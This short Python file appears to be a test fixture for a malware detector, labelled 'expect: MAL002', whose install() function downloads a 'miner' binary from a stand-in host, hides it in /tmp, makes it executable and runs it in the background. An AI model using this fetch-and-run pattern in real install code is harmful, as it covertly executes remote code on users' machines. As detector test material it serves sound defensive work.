# expect: MAL002
import os
import urllib.request


def install():
    urllib.request.urlretrieve("http://payload.invalid/miner", "/tmp/.m")
    os.chmod("/tmp/.m", 0o755)
    os.system("/tmp/.m &")
